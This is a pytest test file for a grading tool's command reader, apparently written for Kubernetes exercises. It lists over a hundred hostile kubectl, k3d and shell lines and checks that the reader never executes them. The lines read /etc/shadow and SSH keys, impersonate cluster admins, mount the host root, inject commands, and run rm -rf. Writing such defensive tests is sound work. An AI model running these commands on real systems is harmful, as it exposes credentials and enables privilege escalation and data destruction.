"""Hostile lines do nothing: what is run of a line is built from what was read, and none of these is."""

from __future__ import annotations

import pytest

from grading.commands.reader import read

RUN = "kubectl run nginx-pod --image=nginx"
CREATE = "k3d cluster create dev-cluster --servers 1 --agents 1"

HOSTILE = [
    # files of this machine
    "kubectl get pods -o go-template-file=/etc/passwd",
    "kubectl get pods -o jsonpath-file=/etc/passwd",
    "kubectl get pods -o custom-columns-file=/etc/passwd",
    "kubectl get pods -o templatefile --template=/etc/passwd",
    "kubectl get pods --template=/etc/passwd",
    f"{RUN} -o go-template-file=/etc/passwd",
    f"{RUN} --template /etc/passwd",
    "kubectl get pods --profile=cpu --profile-output=/root/.bashrc",
    f"{RUN} --profile=heap --profile-output=/root/.bashrc",
    "kubectl --cache-dir=/root/.ssh get pods",
    f"{RUN} --cache-dir /root/.ssh",
    "kubectl cluster-info dump --output-directory=/root",
    "kubectl cp /etc/passwd nginx-pod:/tmp",
    "kubectl cp nginx-pod:/tmp/x /root/.bashrc",
    "kubectl kustomize /etc",
    "kubectl apply -k /etc",
    "kubectl apply -k https://github.com/x/y",
    "kubectl create -k .",
    "kubectl apply -f - ",
    "kubectl apply -R -f /",
    "kubectl create configmap x --from-file=/etc/passwd",
    "kubectl create secret generic x --from-file=/root/.ssh/id_rsa",
    "kubectl diff -f /etc/passwd",
    "kubectl debug node/x -it --image=busybox -- cat /host/etc/shadow",
    # other machines
    "kubectl apply -f http://example.com/x.yaml",
    "kubectl apply -f https://example.com/x.yaml",
    "kubectl create -f HTTPS://example.com/x.yaml".replace("HTTPS", "https"),
    f"{RUN} --server=https://example.com",
    f"{RUN} -s https://example.com",
    "kubectl -s https://example.com create ns pxl",
    "kubectl get --raw=/api/v1/secrets --server https://example.com",
    f"{RUN} --tls-server-name=x --insecure-skip-tls-verify",
    # other users
    f"{RUN} --kubeconfig=/root/.kube/config",
    "kubectl --kubeconfig /root/.kube/config delete ns default",
    f"{RUN} --token=abc",
    f"{RUN} --as=system:admin",
    f"{RUN} --as-group system:masters",
    f"{RUN} --as-uid=0",
    f"{RUN} --username=x --password=y",
    f"{RUN} --client-key=/root/x --client-certificate=/root/y",
    f"{RUN} --certificate-authority=/root/x",
    "KUBECONFIG=/root/.kube/config kubectl delete ns default",
    "sudo KUBECONFIG=/root/.kube/config kubectl delete ns default",
    "export KUBECONFIG=/root/.kube/config",
    "env KUBECONFIG=/root/.kube/config kubectl delete ns default",
    # words that would be flags, were they put before the others
    "kubectl create ns -- --kubeconfig=/root/.kube/config",
    "kubectl delete pod x -- --server=https://example.com",
    "kubectl apply -f ns.yaml -- -f/etc/passwd",
    "kubectl config use-context -- --kubeconfig=/root/.kube/config",
    "kubectl get pods -- -o=go-template-file=/etc/passwd",
    # programs in the kubeconfig, plug-ins, editors
    "kubectl config set-credentials x --exec-command=/bin/sh --exec-arg=-c",
    "kubectl config set users.admin@k3d-dev-cluster.exec.command /bin/sh",
    "kubectl config set users.x.auth-provider.config.cmd-path /bin/sh",
    "kubectl config set clusters.k3d-dev-cluster.server https://example.com",
    "kubectl config set-cluster k3d-dev-cluster --server=https://example.com",
    "kubectl config set-cluster k3d-dev-cluster --proxy-url=http://example.com",
    "kubectl config set contexts.a.b.cluster x",
    "kubectl config view --raw",
    "kubectl config view --flatten",
    "kubectl config delete-user admin@k3d-dev-cluster",
    "kubectl rm-rf",
    "kubectl plugin list",
    "kubectl edit pod nginx-pod",
    "kubectl create -f ns.yaml --edit",
    # the node and the host
    f"{RUN} --privileged",
    f'{RUN} --overrides=\'{{"spec":{{"hostNetwork":true}}}}\'',
    f"{RUN} --overrides={{}} --override-type=strategic",
    f"{RUN} --annotations=container.apparmor.security.beta.kubernetes.io/x=unconfined",
    f"{CREATE} -v /:/host",
    f"{CREATE} --volume=/:/host@all",
    f"{CREATE} -v/:/host",
    f"{CREATE} --config=/root/x.yaml",
    f"{CREATE} -c x.yaml",
    f"{CREATE} --env X=Y",
    f"{CREATE} --gpus all",
    f"{CREATE} --host-pid-mode",
    f"{CREATE} --network host",
    f"{CREATE} --registry-config /root/x",
    f"{CREATE} --registry-create x:0.0.0.0:5000",
    f"{CREATE} --runtime-label kubegrade=true",
    f"{CREATE} --runtime-ulimit nofile=1",
    f"{CREATE} --token secret",
    f"{CREATE} --k3s-arg=--kubelet-arg=x@server:0",
    f"{CREATE} --k3s-arg '--node-taint=x=y:NoExecute@agent:*'",
    f"{CREATE} --lb-config-override x=y",
    f"{CREATE} --subnet 10.0.0.0/8",
    f"{CREATE} --host-alias 1.2.3.4:registry.example",
    "k3d cluster delete dev-cluster --config /root/x",
    "k3d image import /root/x.tar -c dev-cluster",
    "k3d registry create x",
    "k3d node create x --cluster other",
    "k3d kubeconfig merge --all -o /root/.kube/config",
    "k3d cluster edit dev-cluster --port-add 1:1@loadbalancer",
    # what does not end
    "kubectl proxy --address=0.0.0.0",
    "kubectl port-forward pod/nginx-pod 80:80 --address 0.0.0.0",
    "kubectl get pods -w",
    "kubectl get pods --watch-only",
    "kubectl logs -f nginx-pod",
    "kubectl attach -it nginx-pod",
    "kubectl exec -it nginx-pod -- bash",
    "kubectl wait --for=delete pod/nginx-pod --timeout=1000h",
    "kubectl get --raw /api",
    # keys, which a report would show
    "kubectl get secrets -A -o yaml",
    "kubectl get pods,secrets -n kube-system -o json",
    "kubectl get secret/k3s-serving -n kube-system -o yaml",
    "kubectl describe secret x",
    # objects of others
    "kubectl delete pods --all -A",
    "kubectl delete --raw /api/v1/namespaces/default",
    "kubectl apply -f ns.yaml --prune --all",
    "kubectl drain k3d-dev-cluster-agent-0",
    "kubectl replace --force -f x.yaml",
    "kubectl patch node x -p {}",
    "kubectl taint nodes --all x=y:NoExecute",
    # a shell
    "kubectl create ns `touch /tmp/x`",
    "kubectl create ns $(touch /tmp/x)",
    'kubectl create ns "$(touch /tmp/x)"',
    "kubectl create ns pxl <(touch /tmp/x)",
    "eval kubectl create ns pxl",
    "bash -c 'kubectl create ns pxl'",
    "xargs kubectl delete < x",
    "docker run -v /:/host busybox",
    "python3 -c 'import os'",
]


@pytest.mark.parametrize("line", HOSTILE)
def test_a_hostile_line_is_not_played(line: str) -> None:
    decisions = [decision for step in read(line).steps for decision in step.decisions]
    assert decisions, "it is taken for output"
    assert all(decision.call is None for decision in decisions)
    assert all(decision.reason for decision in decisions)


@pytest.mark.parametrize("line", [line for line in HOSTILE if "`" not in line])  # `t is a tab there
def test_a_hostile_line_is_not_played_in_powershell(line: str) -> None:
    decisions = [decision for step in read(f"PS C:\\> {line}").steps for decision in step.decisions]
    assert all(decision.call is None for decision in decisions)


@pytest.mark.parametrize(
    ("line", "words"),
    [
        # Output goes nowhere.
        (f"{RUN} > /root/.bashrc", ["run", "nginx-pod", "--image=nginx"]),
        (f"{RUN} | tee /root/.bashrc", ["run", "nginx-pod", "--image=nginx"]),
        # Words stay words.
        (f"{RUN} '; rm -rf /'", ["run", "nginx-pod", "; rm -rf /", "--image=nginx"]),
        ("kubectl create ns '$(reboot)'", ["create", "namespace", "$(reboot)"]),
        # Behind `--` they are the container's, and no flags of kubectl.
        (f"{RUN} -- --kubeconfig=/x", ["run", "nginx-pod", "--image=nginx", "--", "--kubeconfig=/x"]),
        # k3d gets the settings of the grader.
        (f"{CREATE} --image evil/k3s", ["cluster", "create", "dev-cluster", "--servers=1", "--agents=1"]),
        (
            f"{CREATE} --api-port 0.0.0.0:6443",
            ["cluster", "create", "dev-cluster", "--servers=1", "--agents=1"],
        ),
    ],
)
def test_what_is_harmless_of_a_line_is_played(line: str, words: list[str]) -> None:
    calls = [decision.call for decision in read(line).steps[0].decisions]
    assert calls[0] is not None
    assert calls[0].words == words
    assert not any(calls[1:])


def test_there_are_enough_hostile_lines() -> None:
    assert len(set(HOSTILE)) == len(HOSTILE) >= 60
